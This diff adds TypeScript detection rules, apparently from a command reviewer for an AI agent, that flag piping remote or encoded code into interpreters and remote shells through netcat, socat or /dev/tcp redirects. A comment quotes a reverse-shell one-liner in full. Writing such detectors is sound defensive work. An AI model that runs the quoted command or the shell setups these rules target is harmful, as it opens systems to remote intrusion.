@@ -1,0 +1,122 @@
+import type { Invocation, Stream, Unread } from '../../../shell/invocation';
+import { readOptions } from '../../../shell/options';
+import { shellNames } from '../../../shell/reader/carriers';
+import { streamIn } from '../../../shell/reader/words';
+import { readCommand } from '../../../shell/read-command';
+import { objection, written, type InvocationRule, type LineRule, type Objection } from './rule';
+
+const way = 'Download it to a file inside the project, read it, and let the person decide whether to run it.';
+
+function isForeign(stream: Stream | undefined): stream is Extract<Stream, { kind: 'remote' | 'decoded' }> {
+  return stream?.kind === 'remote' || stream?.kind === 'decoded';
+}
+
+function sayForeign(stream: Extract<Stream, { kind: 'remote' | 'decoded' }>, part: string): Objection {
+  return stream.kind === 'remote'
+    ? objection(part, 'It runs code that comes straight from the network, unseen.', way)
+    : objection(
+        part,
+        'It runs code that is hidden in an encoding.',
+        'Decode it to a file, read it, then write out the commands that are meant.',
+      );
+}
+
+const runner = (unread: Unread): string =>
+  (unread.text === '' ? `… | ${unread.runner}` : `${unread.runner} ${unread.text}`).slice(0, 160);
+
+export const foreignCodeRule: LineRule = {
+  id: 'run-foreign-code',
+  level: 'standard',
+  checkLine(reading) {
+    for (const unread of reading.unread) {
+      if (isForeign(unread.stream)) return sayForeign(unread.stream, runner(unread));
+    }
+    for (const call of reading.calls) {
+      if (call.effect === 'run-decoded')
+        return sayForeign({ kind: 'decoded', program: call.language }, `${call.name}(…)`);
+    }
+    for (const invocation of reading.invocations) {
+      if (invocation.program !== undefined) continue;
+      const stream = streamIn(invocation.name);
+      if (isForeign(stream)) return sayForeign(stream, written(invocation));
+    }
+    return undefined;
+  },
+};
+
+/** Is this command line, given to a network program, a shell for whoever connects? */
+function opensShell(text: string): boolean {
+  const { invocations } = readCommand(text, { cwd: '/', home: '/' });
+  return invocations.some(
+    (invocation) =>
+      invocation.program !== undefined &&
+      shellNames.has(invocation.program) &&
+      !invocation.args.some((word) => /^-[a-z]*c$/.test(word.text)),
+  );
+}
+
+const shellWay = 'Nothing in a project needs a shell for the network; ask the person.';
+
+function netcatShell(invocation: Invocation): Objection | undefined {
+  const read = readOptions(invocation.args, {
+    short: 'ceiIopqswxX',
+    long: ['exec', 'sh-exec', 'source-port', 'source', 'wait', 'idle-timeout', 'proxy'],
+  });
+  const command = read.value('-e', '-c', '--exec', '--sh-exec');
+  const connects = read.operands.length > 0 || read.has('-l', '--listen', '-p');
+  if (command === undefined || !connects || !opensShell(command.text)) return undefined;
+  return objection(written(invocation), 'It hands a shell to whoever is at the other end of the network.', shellWay);
+}
+
+function socatShell(invocation: Invocation): Objection | undefined {
+  const addresses = invocation.args.filter((word) => !word.text.startsWith('-'));
+  const network = addresses.some((word) =>
+    /^(?:tcp|udp|openssl|ssl|sctp|dccp|proxy|socks|quic|vsock)\w*(?:-\w+)*:/i.test(word.text),
+  );
+  const shell = addresses.some((word) => {
+    const command = /^(?:exec|system|shell):([^]*)$/i.exec(word.text)?.[1];
+    return command !== undefined && opensShell(command.replace(/,[\w=,-]*$/, ''));
+  });
+  return network && shell
+    ? objection(written(invocation), 'It hands a shell to whoever is at the other end of the network.', shellWay)
+    : undefined;
+}
+
+/** `bash -i >& /dev/tcp/host/port 0>&1`. */
+function redirectedShell(invocation: Invocation): Objection | undefined {
+  const connected = invocation.redirects.some(
+    (redirect) => redirect.target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(redirect.target.text),
+  );
+  const reads = invocation.redirects.some(
+    (redirect) =>
+      (redirect.fd === '0' && redirect.operator === '>&') ||
+      redirect.operator === '<>' ||
+      (redirect.fd === '0' && redirect.operator === '<&'),
+  );
+  return connected && reads
+    ? objection(written(invocation), 'It hands a shell to whoever is at the other end of the network.', shellWay)
+    : undefined;
+}
+
+export const remoteShellRules: readonly InvocationRule[] = [
+  { id: 'remote-shell', level: 'standard', programs: ['nc', 'ncat', 'netcat'], check: netcatShell },
+  { id: 'remote-shell', level: 'standard', programs: ['socat'], check: socatShell },
+  { id: 'remote-shell', level: 'standard', programs: [...shellNames], check: redirectedShell },
+];
+
+/** Code that nobody can see from here: only `strict` stops at it, auto-review never approves it. */
+export const unseenCodeRule: LineRule = {
+  id: 'run-unseen-code',
+  level: 'strict',
+  checkLine(reading) {
+    const unread = reading.unread.find((entry) => entry.why !== 'script-file');
+    if (unread !== undefined)
+      return objection(runner(unread), 'The code it runs is not in the command.', 'Write the commands out.');
+    const hidden = reading.invocations.find(
+      (invocation) => invocation.program === undefined && invocation.args.length > 0,
+    );
+    return hidden === undefined
+      ? undefined
+      : objection(written(hidden), 'Which program it runs is not in the command.', 'Write the program out.');
+  },
+};
